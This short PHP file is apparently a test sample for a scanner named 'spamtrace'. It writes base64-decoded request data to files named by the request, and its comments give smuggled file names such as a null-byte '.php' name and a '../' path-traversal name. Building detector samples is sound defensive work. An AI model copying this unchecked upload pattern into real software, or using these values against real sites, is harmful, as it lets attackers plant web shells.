<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Writes decoded request data under a name the request gives: ".png" in the code does not
// make it a picture when the visitor names the file (shell.php%00.png, ../x.php).
$name = $_POST['n'];
file_put_contents('uploads/' . $name . '.png', base64_decode($_POST['d']));
$file = 'cache/' . $_GET['f'];
file_put_contents($file, base64_decode($_POST['d']));
